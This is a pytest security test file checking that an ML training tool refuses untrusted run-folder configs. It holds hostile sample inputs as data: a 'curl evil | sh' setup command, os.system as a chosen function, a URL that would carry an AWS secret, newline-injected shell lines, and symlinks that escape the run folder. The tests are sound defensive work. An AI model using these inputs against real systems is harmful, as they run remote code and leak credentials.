"""A run's folder from a stranger: its config.yaml chooses no code, and nothing outside of it."""

import shlex
import shutil
from pathlib import Path

import pytest
import yaml

from tests.strangers.conftest import refusal


@pytest.fixture
def configure(handed):
    """Changes settings in the run's config.yaml."""

    def change(**settings) -> None:
        file = handed.run / "config.yaml"
        tree = yaml.safe_load(file.read_text())
        for key, value in settings.items():
            *path, leaf = key.split("__")
            section = tree
            for part in path:
                section = section[part]
            section[leaf] = value
        file.write_text(yaml.safe_dump(tree))

    return change


CODE = {
    "eval.check": "os:system",
    "eval.measure": "os.system",
    "deepspeed.config": {"torch_autocast": {"lower_precision_safe_modules": ["evil.Module"]}},
    "launcher.setup": ["touch /tmp/evil; curl evil | sh"],
    "launcher.python": "evil python",
    "launcher.srun_args": ["--task-prolog=evil"],
    "launcher.slurm": {"output": "/home/evil"},
    "data.cache_dir": "/home",
}


@pytest.fixture
def evil_code(handed, configure, monkeypatch):
    """A run that names a module beside it, which leaves a mark if it is ever imported."""
    (handed.folder / "evil.py").write_text("open('imported', 'w')\ndef check(text): return True\n")
    configure(eval__check="evil:check")
    yield handed.run
    assert not Path("imported").exists()


@pytest.mark.parametrize("name", ["check", "measure"])
def test_a_function_that_a_run_names_is_shown_and_not_called(refused, configure, name):
    configure(**{f"eval__{name}": "os:system"})
    line = refused("eval", "run", "--samples", 2)
    assert f"run/config.yaml chooses a function for eval.{name}" in line
    assert line.endswith(f"add --{name} os:system\n")


def test_none_is_imported_and_what_is_typed_is(evil_code, refused, honest, handed):
    refused("eval", "run", "--sequences", 5)
    (handed.folder / "mine.py").write_text("def check(text): return True\n")
    honest("eval", "run", "--check", "mine:check", "--samples", 2)


def test_commands_that_need_no_function_of_the_run_work(evil_code, honest):
    honest("reconstruct", "run", "x = 1")
    honest("export", "run")
    honest("compare", "run")
    honest("sample", "run", "-n", 1, "--prior", "gaussian")


@pytest.mark.parametrize("key", [key for key in CODE if not key.startswith("launcher.")])
def test_what_a_run_chooses_is_not_trained_with(refused, configure, key):
    configure(**{key.replace(".", "__"): CODE[key]})
    line = refused("train", "run/config.yaml", "train.steps=13")
    assert f" for {key}, " in line


@pytest.mark.parametrize("key", CODE)
@pytest.mark.parametrize("marked", [True, False], ids=["marked as a run", "unmarked"])
def test_nor_queued_again(launched, configure, handed, key, marked):
    configure(**{key.replace(".", "__"): CODE[key]})
    if not marked:
        (handed.run / "checkpoints").rename("elsewhere")
    line = refusal(launched("resume", "run", "--cluster", "local"))
    assert f" for {key}, " in line
    (typed,) = shlex.split(line.rpartition("add ")[2])
    done = launched("resume", "run", "--cluster", "local", "--dry-run", typed)
    assert done.code == 0, done.err


@pytest.mark.parametrize("key", ["data.shards", "model.base", "checkpoint.source"])
def test_no_variable_of_the_environment_gets_into_a_path(refused, configure, monkeypatch, key):
    """Nor, so, into the address of a request."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "the secret")
    configure(**{key.replace(".", "__"): "http://127.0.0.1:9/$AWS_SECRET_ACCESS_KEY"})
    for arguments in (
        ["eval", "run"],
        ["train", "run/config.yaml"],
        ["config", "show", "run/config.yaml"],
    ):
        assert "has a variable in the path" in refused(*arguments)


LINKS = {
    "latent": ["sample", "run", "-n", "1", "--prior", "gaussian"],
    "latent/priors": ["sample", "run", "-n", "1", "--prior", "gaussian"],
    "latent/train.building": ["nearest", "run", "x = 1"],
    "latent/properties": ["fit-property", "run", "length"],
    "latent/priors/gaussian.safetensors.1.tmp": ["sample", "run", "-n", "1", "--prior", "gaussian"],
    "eval.json.1.tmp": ["eval", "run", "--samples", "3"],
    "logs": ["export", "run", "--dtype", "bf16"],
    "logs/export.log": ["export", "run", "--dtype", "bf16"],
    "checkpoints": ["checkpoints", "run", "--remove", "step-00000008"],
    ".lock": ["train", "run/config.yaml", "train.steps=13"],
    "metrics.jsonl": ["train", "run/config.yaml", "train.steps=13"],
    "tensorboard": ["track", "run", "--tensorboard"],
}


@pytest.mark.parametrize("link", LINKS)
def test_nothing_is_written_through_a_link_out_of_the_run(refused, handed, link):
    outside = handed.secret.parent / "outside"
    outside.mkdir()
    (outside / "kept").write_text("kept")
    path = handed.run / link
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    path.symlink_to(outside if "." not in path.name or "building" in link else outside / "kept")
    line = refused(*LINKS[link])
    assert f"run/{link} is a link to {outside}" in line
    assert [file.name for file in outside.iterdir()] == ["kept"]
    assert (outside / "kept").read_text() == "kept"


def test_links_within_a_run_and_to_one_are_followed(honest, handed):
    (handed.run / "here").symlink_to("config.yaml")
    handed.run.rename("elsewhere")
    handed.run.symlink_to("elsewhere")
    honest("sample", "run", "-n", 1, "--prior", "gaussian")
    honest("eval", "run", "--samples", 2)


def test_an_export_may_be_links_as_in_the_cache_of_the_hub(honest, handed):
    blobs, snapshot = handed.folder / "blobs", handed.folder / "snapshots/1"
    (handed.run / "export").rename(blobs)
    snapshot.mkdir(parents=True)
    for file in blobs.iterdir():
        (snapshot / file.name).symlink_to(file)
    honest("reconstruct", snapshot, "x = 1")
    honest("eval", snapshot, "--shards", "shards", "--samples", 2)


@pytest.mark.parametrize("key", ["partition", "mail_user", "gres", "exclude", "name"])
def test_no_line_of_a_script_is_in_a_setting(launched, configure, key):
    place = "run" if key == "name" else "launcher"
    configure(**{f"{place}__{key}": "main\ntouch evil"})
    line = refusal(launched("resume", "run", "--cluster", "local", "--dry-run"))
    assert f"{place}.{key} is 'main\\ntouch evil': it has a line break" in line


def test_nor_in_the_name_of_a_folder(launched, handed):
    handed.run.rename("run\ntouch evil")
    line = refusal(launched("resume", "run\ntouch evil", "--cluster", "local", "--dry-run"))
    assert "has a line break" in line
